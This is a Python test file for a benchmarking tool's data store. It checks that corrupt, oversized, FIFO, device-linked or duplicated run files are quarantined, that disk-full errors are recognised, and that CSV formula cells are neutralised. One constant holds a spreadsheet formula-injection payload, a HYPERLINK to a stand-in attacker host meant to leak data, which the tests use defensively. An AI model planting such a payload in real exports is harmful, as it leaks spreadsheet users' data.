"""Reading is robust (issue 40, items 5 and 6): an unreadable run folder or manifest is quarantined, never read past
its cap or blocked on, and listed on the index; a model the catalog lacks is said, not a KeyError; disk full in the
words polars and pyarrow use is recognised; no CSV kvlab writes holds a formula cell."""

from __future__ import annotations

import errno
import json
import os
import shutil
import threading
from pathlib import Path

import polars as pl
import pytest

from kvlab import campaign, reports, store
from kvlab.studies.whatif_model.frames import catalogued
from kvlab.studies.whatif_model.words import not_catalogued
from notebook_data import FIXTURE_RUNS, copy_reference

#: The fixture runs (tests/fixtures/runs): 28 measured runs, 728 requests, 28 attempts; the published tables: 4 rows.
MEASURED, REQUESTS, PUBLISHED = 28, 728, 4
CORRUPT = "cpu_multi_turn/4ed47393244f"  # 16 requests
ZERO_LINK = "cpu_long_context/6ee02ffe94c4"  # 4 requests
FIFO_MANIFEST = "cpu_classification/manifest.json"

#: What a spreadsheet would run: a cell starting with one of these (OWASP's list), outside the apostrophe.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = '=HYPERLINK("http://evil.example/?leak","v")'


@pytest.fixture
def data(tmp_path) -> Path:
    data = tmp_path / "data"
    copy_reference(data)
    shutil.copytree(FIXTURE_RUNS, data / "runs")
    return data


def _break(data: Path) -> None:
    """One corrupt run.parquet, one requests.parquet linked to /dev/zero, one FIFO manifest."""
    (data / "runs" / CORRUPT / store.RUN_FILE).write_bytes(b"PAR1 not a parquet file at all PAR1")
    zero = data / "runs" / ZERO_LINK / store.REQUESTS_FILE
    zero.unlink()
    zero.symlink_to("/dev/zero")
    fifo = data / "runs" / FIFO_MANIFEST
    fifo.unlink()
    os.mkfifo(fifo)


def _bounded(fn, timeout_s: float = 20.0):
    """``fn()``'s result, failing (not hanging) where it blocks past ``timeout_s``."""
    out = {}
    t = threading.Thread(target=lambda: out.update(value=fn()), daemon=True)
    t.start()
    t.join(timeout_s)
    assert not t.is_alive(), f"{fn} blocked for {timeout_s} s"
    return out["value"]


def test_unreadable_run_folders_and_manifests_are_quarantined_and_the_rest_is_read(data):
    _break(data)
    runs = _bounded(lambda: store.load_runs(data))
    measured = runs.filter(pl.col("source") == "measured")
    assert measured.height == MEASURED - 2 and runs.height == MEASURED - 2 + PUBLISHED
    assert measured.group_by("experiment").len().sort("experiment").rows() == [
        ("cpu_classification", 2),
        ("cpu_long_context", 5),
        ("cpu_multi_turn", 3),
        ("cpu_prefix_sharing", 16),
    ]
    assert _bounded(lambda: store.load_requests(data)).height == REQUESTS - 16 - 4
    assert _bounded(lambda: store.load_attempts(data)).height == MEASURED - 2
    assert _bounded(lambda: store.load_probes(data)).height == 0  # the FIFO manifest is not opened
    assert _bounded(lambda: store.read_manifest(data / "runs" / "cpu_classification")) == {}

    found = _bounded(lambda: store.quarantined(data))
    assert [q.path.relative_to(data / "runs").as_posix() for q in found] == [FIFO_MANIFEST, ZERO_LINK, CORRUPT]
    fifo, zero, corrupt = (q.reason for q in found)
    assert fifo == f"{data / 'runs' / FIFO_MANIFEST}: a FIFO, not a regular file: not read"
    assert zero == (
        f"{data / 'runs' / ZERO_LINK / store.REQUESTS_FILE}: a character device, not a regular file: not read"
    )
    assert corrupt.startswith(f"{data / 'runs' / CORRUPT / store.RUN_FILE}: cannot be parsed as parquet: ")


def test_a_manifest_or_table_over_its_cap_is_not_read(data, monkeypatch):
    """Sizes are checked before a byte is parsed: 16 KiB quarantines the one manifest over it (18,698 bytes)."""
    monkeypatch.setattr(store, "MAX_JSON_BYTES", 16 * 1024)
    found = store.quarantined(data)
    manifest = data / "runs" / "cpu_long_context" / store.MANIFEST_FILE
    assert [(q.path, q.reason) for q in found] == [
        (manifest, f"{manifest}: 18,698 bytes, over the 16,384-byte cap for this file: not read")
    ]
    assert store.read_manifest(manifest.parent) == {}
    assert store.load_runs(data).filter(pl.col("source") == "measured").height == MEASURED  # its runs are read
    monkeypatch.setattr(store, "MAX_TABLE_BYTES", 1024)
    run = data / "runs" / CORRUPT / store.REQUESTS_FILE
    with pytest.raises(store.SchemaError, match=f"{run}: {run.stat().st_size:,} bytes, over the 1,024-byte cap"):
        store.read_table(run, store.REQUESTS)


def test_a_run_folder_read_again_after_it_is_mended(data):
    """The quarantine is a reading, not a verdict: a folder whose files change is checked again."""
    good = (data / "runs" / CORRUPT / store.RUN_FILE).read_bytes()
    (data / "runs" / CORRUPT / store.RUN_FILE).write_bytes(b"garbage")
    assert len(store.run_dirs(data)) == MEASURED - 1
    (data / "runs" / CORRUPT / store.RUN_FILE).write_bytes(good)
    assert len(store.run_dirs(data)) == MEASURED and store.quarantined(data) == []


def _every_reader(data: Path) -> dict:
    """What each reader of stored runs gives for ``data``: the loaders, the index's provenance and run tables."""
    return {
        "runs": store.load_runs(data).sort("source", "experiment", "run_id"),
        "requests": store.load_requests(data).height,
        "attempts": store.load_attempts(data).height,
        "telemetry": store.load_telemetry(data).height,
        "telemetry_info": store.load_telemetry_info(data).height,
        "probes": store.load_probes(data).height,
        "run_dirs": [d.relative_to(data).as_posix() for d in store.run_dirs(data)],
        "multi_turn_runs": store.load_runs(data, "cpu_multi_turn").height,
        "multi_turn_requests": store.load_requests(data, "cpu_multi_turn").height,
        "provenance_runs": reports.provenance(data, None, None)["runs"],
        "run_table": reports.run_tables_html(store.load_runs(data)),
    }


def test_a_copied_run_folder_is_quarantined_naming_both_and_every_reader_reads_the_rest(data):
    """Issue 56, item 1: ``cp -a <run> backup-copy`` made every loader raise (duplicate row), so no report built.
    Now the copy is left out and listed, naming both folders, the one read and why; every reader gives what it gave
    without the copy (a copy into another experiment's folder too)."""
    before = _every_reader(data)
    original = data / "runs" / CORRUPT
    copy = original.parent / "backup-copy"
    shutil.copytree(original, copy, symlinks=True)  # cp -a
    elsewhere = data / "runs" / "cpu_long_context" / original.name  # a copy of the same run, named as its run id
    shutil.copytree(original, elsewhere, symlinks=True)
    after = _every_reader(data)
    assert after["runs"].equals(before["runs"])
    assert {k: v for k, v in after.items() if k != "runs"} == {k: v for k, v in before.items() if k != "runs"}
    found = store.quarantined(data)
    assert [(q.path, q.kept) for q in found] == [(elsewhere, original), (copy, original)]  # by path
    run = f"run {original.name} of cpu_multi_turn (measured)"
    assert found[1].reason == (
        f"holds {run}, as {original} does: {original} is kept (its folder name is its run id), this copy is not read"
    )
    assert found[0].reason == (
        f"holds {run}, as {original} does: {original} is kept (it lies in its experiment's folder), this copy is not "
        "read"
    )
    page = reports.quarantined_html(found, data)
    assert "2 run folders hold a run another folder holds (a copy)" in page
    assert (
        f"<code><bdi>runs/{CORRUPT.split('/')[0]}/backup-copy</bdi></code> (read instead: <code><bdi>runs/{CORRUPT}"
        in page
    )


def test_a_copy_of_a_run_whose_folder_cannot_be_read_is_read_in_its_place(data):
    """The folder kept is one that can be read: where the original is corrupt, its copy is read and the original
    quarantined as unreadable; where neither folder is named as its run id, the first by path is read."""
    original = data / "runs" / CORRUPT
    copy = original.parent / "backup-copy"
    shutil.copytree(original, copy, symlinks=True)
    good = (original / store.RUN_FILE).read_bytes()
    (original / store.RUN_FILE).write_bytes(b"PAR1 truncated")
    assert [(q.path, q.kept) for q in store.quarantined(data)] == [(original, None)]
    assert copy in store.run_dirs(data) and store.load_runs(data, "cpu_multi_turn").height == 4
    (original / store.RUN_FILE).write_bytes(good)
    original.rename(original.parent / "renamed")
    [q] = store.quarantined(data)
    assert (q.path, q.kept) == (original.parent / "renamed", copy)
    assert "is kept (it comes first by path), this copy is not read" in q.reason


def test_a_model_missing_from_the_catalog_is_said_and_its_modelled_bound_skipped(data):
    """Report 04's path (studies.whatif_model.catalogued, then perfmodel.achieved_fraction): the 6 cpu_long_context runs of a
    model the catalog lacks are named and left out of the bound; the other 22 measured runs and the 4 published
    rows keep theirs."""
    from kvlab.perfmodel import Assumptions, Workload, achieved_fraction

    for run in sorted((data / "runs" / "cpu_long_context").glob("*/" + store.RUN_FILE)):
        pl.read_parquet(run).with_columns(model=pl.lit("Qwen/Qwen2.5-0.5B-Instruct")).write_parquet(run)
    runs = store.load_runs(data)
    with pytest.raises(KeyError, match="Qwen/Qwen2.5-0.5B-Instruct"):  # what report 04 failed on
        achieved_fraction(runs, Workload(8, 1024), Assumptions(), sources=("published", "measured"))
    kept, missing = catalogued(runs)
    assert kept.height == runs.height - 6
    assert not_catalogued(missing) == (
        "*Not in the model's catalog: model `Qwen/Qwen2.5-0.5B-Instruct` (experiment `cpu_long_context`). Their "
        "modelled bound is skipped; what was measured is shown.*"
    )
    frac = achieved_fraction(kept, Workload(8, 1024), Assumptions(), sources=("published", "measured"))
    assert frac.group_by("source").len().sort("source").rows() == [("measured", 22), ("published", 4)]
    assert catalogued(kept) == (kept, {}) and not_catalogued({}) == ""


@pytest.mark.parametrize(
    "exc",
    [
        pl.exceptions.ComputeError(
            "parquet: File out of specification: underlying IO error: No space left on device (os error 28)"
        ),
        pl.exceptions.ComputeError("parquet: File out of specification: Invalid thrift: transport error"),
        OSError("[Errno 28] Error writing bytes to file. Detail: [errno 28] No space left on device"),  # pyarrow
        OSError(errno.EDQUOT, os.strerror(errno.EDQUOT)),
        RuntimeError("could not store the run"),  # raised from one of the above
    ],
)
def test_disk_full_is_recognised_in_every_form_polars_and_pyarrow_give(exc):
    if isinstance(exc, RuntimeError):
        try:
            raise exc from pl.exceptions.ComputeError("Invalid thrift: transport error")
        except RuntimeError as chained:
            exc = chained
    assert campaign.is_disk_full(exc)


@pytest.mark.parametrize(
    "exc",
    [
        OSError(errno.EACCES, os.strerror(errno.EACCES)),
        pl.exceptions.ComputeError("parquet: File out of specification: bad magic"),
        ValueError("28 requests"),
    ],
)
def test_other_errors_are_not_disk_full(exc):
    assert not campaign.is_disk_full(exc)


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_left_alone(tmp_path):
    frame = pl.DataFrame(
        {
            "version": [HOSTILE, "-1", "@SUM(A1)", "\tx", "\rx", "+1", "0.19.1", None],
            "delta": [-1, 2, -3, 4, -5, 6, 7, 8],
            "ratio": [-1.5, 0.0, 1.0, -0.25, 2.0, 3.0, -4.0, None],
        }
    )
    frame = frame.with_columns(engine=pl.col("version").cast(pl.Categorical))
    store.write_csv(frame, tmp_path / "t.csv")
    back = pl.read_csv(tmp_path / "t.csv", infer_schema=False)
    want = ["'" + HOSTILE, "'-1", "'@SUM(A1)", "'\tx", "'\rx", "'+1", "0.19.1", None]
    assert back["version"].to_list() == want and back["engine"].to_list() == want
    assert back["delta"].to_list() == ["-1", "2", "-3", "4", "-5", "6", "7", "8"]  # numbers stay numbers
    assert back["ratio"].to_list() == ["-1.5", "0.0", "1.0", "-0.25", "2.0", "3.0", "-4.0", None]
    assert store.neutralise(pl.DataFrame({"=x": [1]})).columns == ["'=x"]  # a header from data too


def _formula_cells(path: Path) -> list[str]:
    frame = pl.read_csv(path, infer_schema=False)
    cells = [c for col in frame.columns for c in [col, *frame[col].drop_nulls()]]
    return [c for c in cells if c.startswith(FORMULA) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_a_report_build_quarantines_a_corrupt_run_and_writes_no_formula_cell(data):
    """One build (report 02, one notebook) from the fixture runs with a corrupt run folder, a /dev/zero link and a
    FIFO manifest, and formula text in every run's engine version and model name: the report builds, the index lists
    the three with their reasons (and quarantined.json), and neither runs.csv nor a figure CSV holds a formula."""
    _break(data)
    for run in sorted((data / "runs").glob("*/*/" + store.RUN_FILE)):
        if run.parent.relative_to(data / "runs").as_posix() != CORRUPT:
            pl.read_parquet(run).with_columns(engine_version=pl.lit(HOSTILE)).write_parquet(run)
    out = data.parent / "reports"
    built = _bounded(lambda: reports.build(out, selected=["02"], parameters={"data_dir": str(data)}), 300)
    assert [r.notebook for r in built] == ["02_throughput_decay.ipynb"] and (out / "02_throughput_decay.html").exists()
    index = (out / "index.html").read_text()
    listed = json.loads((out / reports.QUARANTINED_JSON).read_text())
    assert [q["path"] for q in listed] == [f"runs/{FIFO_MANIFEST}", f"runs/{ZERO_LINK}", f"runs/{CORRUPT}"]
    for q in listed:
        assert f"<code><bdi>{q['path']}</bdi></code>: <bdi>" in index  # isolated (issue 56)
    runs_csv = pl.read_csv(out / reports.RUNS_CSV, infer_schema=False)
    assert runs_csv.filter(pl.col("source") == "measured").height == MEASURED - 2
    assert set(runs_csv.filter(pl.col("source") == "measured")["engine_version"]) == {"'" + HOSTILE}
    figures = sorted((out / f"02_throughput_decay{reports.FIGURES_SUFFIX}").glob("*.csv"))
    assert figures and [p.name for p in figures if _formula_cells(p)] == []
    assert _formula_cells(out / reports.RUNS_CSV) == []
